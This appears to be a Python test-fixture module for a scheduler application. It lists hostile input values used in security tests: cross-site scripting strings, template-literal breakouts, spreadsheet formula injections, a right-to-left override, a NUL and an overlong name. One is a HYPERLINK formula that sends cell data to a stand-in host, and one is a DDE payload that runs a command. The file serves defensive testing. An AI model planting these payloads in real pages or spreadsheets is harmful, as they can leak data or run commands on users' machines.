"""Hostile values for the security tests: what an attacker (or a careless register) may type.

Each value is one that broke, or could break, a page or a spreadsheet: closing a ``<script>``,
breaking out of a JavaScript template literal or an HTML attribute, a formula a spreadsheet would
run, a NUL, a right-to-left override, a very long text. The tests push them through import, plan,
every page and every export.
"""

from __future__ import annotations

import re
from typing import Final

from scheduler.cells import FORMULA_STARTS

__all__ = [
    "FORMULA_STARTS",
    "HOSTILE_IDS",
    "HOSTILE_TEXTS",
    "NUL_TEXT",
    "refusable",
    "starts_formula",
    "without_refusable",
]

HOSTILE_TEXTS: Final = (
    "</script><script>alert(1)</script>",
    "`${alert(1)}`",
    '"><img src=x onerror=alert(1)>',
    "O'Brien \"双引号\" '单引号' </textarea><svg onload=alert(1)>",
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\u202eexe.王秀英",  # a right-to-left override
    "行\u2028\u2029</ScRiPt ><script>alert(1)//",
    "欧阳春花" + "长" * 1900,  # very long (under the importer's 2,000-character cell limit)
)
"""Names, addresses and labels."""

HOSTILE_IDS: Final = (
    "R</script><script>alert(1)</script>",
    "R`${alert(1)}`",
    "=R(1)",
    "+R1",
    "@R1",
    '-R"><img src=x onerror=alert(1)>',
)
"""Resident ids (at most 64 characters, the register's limit)."""

NUL_TEXT: Final = "王\x00秀英"
"""A NUL inside a name: refused at import, or stored and shown harmlessly."""


# Characters an importer may rightly refuse (control characters, direction overrides): a value
# holding one is either refused at import, naming where, or stored and shown harmlessly.
_REFUSABLE: Final = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def refusable(text: str) -> bool:
    """Whether an importer may refuse ``text`` (it holds a control character or an override)."""
    return bool(_REFUSABLE.search(text))


def without_refusable(text: str) -> str:
    """``text`` without the characters an importer may refuse."""
    return _REFUSABLE.sub("", text)


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet would take ``text`` for a formula."""
    return bool(text) and text[0] in FORMULA_STARTS
